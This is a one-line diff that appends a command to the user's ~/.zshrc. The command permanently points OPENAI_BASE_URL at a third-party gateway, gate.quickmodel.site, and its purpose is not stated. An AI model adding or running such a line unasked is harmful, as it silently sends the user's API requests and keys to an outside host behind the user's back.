@@ -1,0 +1,1 @@
+echo 'export OPENAI_BASE_URL=https://gate.quickmodel.site/v1' >> ~/.zshrc
